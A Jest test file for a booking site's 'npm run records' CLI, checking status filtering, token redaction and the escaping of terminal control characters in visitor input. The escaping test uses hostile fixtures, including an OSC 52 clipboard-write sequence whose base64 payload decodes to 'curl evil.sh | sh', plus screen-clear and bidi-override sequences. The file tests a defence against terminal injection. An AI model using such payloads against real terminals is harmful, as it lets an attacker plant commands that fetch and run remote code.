/** @jest-environment node */
import { execFile } from "node:child_process"
import path from "node:path"
import { promisify } from "node:util"
import { bookingLinks } from "../booking-loop/links"
import { KEY_REDACTED } from "../redaction"
import { newReference } from "../reference"
import { dayFromToday, validBooking, validContact } from "../test-support/forms"
import { SITE, tokenOf } from "../test-support/loop-world"
import { startApi, TEST_LINK_SECRET } from "../test-support/peers"

const run = promisify(execFile)
const ROOT = path.resolve(__dirname, "../../..")
/**
 * `npm run records` with these arguments: the script in one Node process with tsx's CommonJS hook (the script is
 * CommonJS), where tsx's command line starts Node again under it with its ES-module hooks too: 0.5 s of CPU a run
 * against 1.5 s, six runs in this file.
 */
const records = (env: NodeJS.ProcessEnv, ...args: string[]) =>
  run(process.execPath, ["--require", "tsx/cjs", "scripts/records.ts", ...args], { cwd: ROOT, env })

// What a terminal would act on rather than show: C0 but the line feed that ends each line, DEL, C1, bidirectional controls, line and paragraph separators.
// eslint-disable-next-line no-control-regex -- control characters are what this pattern is for
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

describe("npm run records", () => {
  it("lists the suspected spam of the local outbox, and refuses a status that does not exist", async () => {
    const api = await startApi()
    try {
      const spam = (await api.post("booking-requests", validBooking({ website: "http://spam.example" }))).json as { reference: string }
      const real = (await api.post("booking-requests", validBooking())).json as { reference: string }
      const env = { ...process.env, OUTBOX_DIR: api.outboxDir, NETLIFY_SITE_ID: "", NETLIFY_AUTH_TOKEN: "" }
      const { stdout } = await records(env, "--status", "suspected-spam")
      expect(stdout).toContain(`1 record in the local outbox at ${api.outboxDir}, status suspected-spam`)
      expect(stdout).toContain(spam.reference)
      expect(stdout).toContain("spam? honeypot filled")
      expect(stdout).not.toContain(real.reference)
      await expect(records(env, "--status", "lost")).rejects.toMatchObject({
        stderr: expect.stringContaining("--status must be one of pending, delivered, needs-attention, suspected-spam"),
      })
    } finally {
      await api.close()
    }
  })

  it("shows the control characters of visitor text escaped, never raw, in the listing and in --json", async () => {
    const api = await startApi()
    try {
      // Passes validation: a clipboard write (OSC 52, ended by BEL), a screen clear and cursor move, a C1 CSI, a bidi override.
      const firstName = "Eve\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007"
      const lastName = "X\u001b[2J\u001b[1;1H\u009b31m\u202eredro"
      const real = await api.post("booking-requests", validBooking({ firstName, lastName }))
      expect(real.status).toBe(201)
      // Suspected spam keeps the fields as sent.
      const spam = await api.post(
        "contact-messages",
        validContact({ name: "Bot\u001b]52;c;ZXZpbA==\u0007", website: "http://spam.example" }),
      )
      expect(spam.status).toBe(201)
      const env = { ...process.env, OUTBOX_DIR: api.outboxDir, NETLIFY_SITE_ID: "", NETLIFY_AUTH_TOKEN: "" }

      const { stdout } = await records(env)
      expect(stdout).toContain("2 records in")
      expect(stdout).not.toMatch(TERMINAL_CONTROL)
      expect(stdout).toContain("Eve\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 X\\x1b[2J\\x1b[1;1H\\x9b31m\\u{202e}redro")
      expect(stdout).toContain("Bot\\x1b]52;c;ZXZpbA==\\x07")

      const json = (await records(env, "--json")).stdout
      expect(json).not.toMatch(TERMINAL_CONTROL)
      // The same data, escaped the JSON way.
      const listed = JSON.parse(json) as { data: Record<string, string> }[]
      expect(listed.map((record) => record.data.firstName ?? record.data.name).sort()).toEqual(["Bot\u001b]52;c;ZXZpbA==\u0007", firstName])
    } finally {
      await api.close()
    }
  })

  it("shows the keys typed into a record redacted, in the listing and in --json, and the record keeps them", async () => {
    const api = await startApi()
    try {
      const links = bookingLinks({ bookingLinkSecret: TEST_LINK_SECRET, siteUrl: SITE }, newReference(), {
        date: dayFromToday(30),
        returnTrip: false,
        returnDate: "",
      })
      const [customer, dispatch] = [tokenOf(links.customer), tokenOf(links.dispatch)]
      const typed = { firstName: customer, lastName: `#t=${dispatch}`, specialRequests: `Use ${links.confirm} please.` }
      const booking = await api.post("booking-requests", validBooking(typed))
      expect(booking.status).toBe(201)
      // Suspected spam is kept unvalidated, keys and all.
      const spam = await api.post("contact-messages", validContact({ message: `Open ${links.customer}`, website: "http://spam.example" }))
      expect(spam.status).toBe(201)
      const env = { ...process.env, OUTBOX_DIR: api.outboxDir, NETLIFY_SITE_ID: "", NETLIFY_AUTH_TOKEN: "" }

      const { stdout } = await records(env)
      const json = (await records(env, "--json")).stdout
      for (const listing of [stdout, json]) {
        expect([listing.includes(customer), listing.includes(dispatch), listing.includes(KEY_REDACTED)]).toEqual([false, false, true])
      }
      expect(stdout).toContain(`${KEY_REDACTED} ${KEY_REDACTED}, maria.lopez@example.com`)
      const listed = JSON.parse(json) as { data: Record<string, string> }[]
      expect(listed.map((record) => record.data.specialRequests ?? record.data.message).sort()).toEqual([
        `Open ${KEY_REDACTED}`,
        `Use ${KEY_REDACTED} please.`,
      ])
      expect((await api.outbox()).map((record) => (record.data as { firstName?: string }).firstName)).toContain(customer)
    } finally {
      await api.close()
    }
  })
})
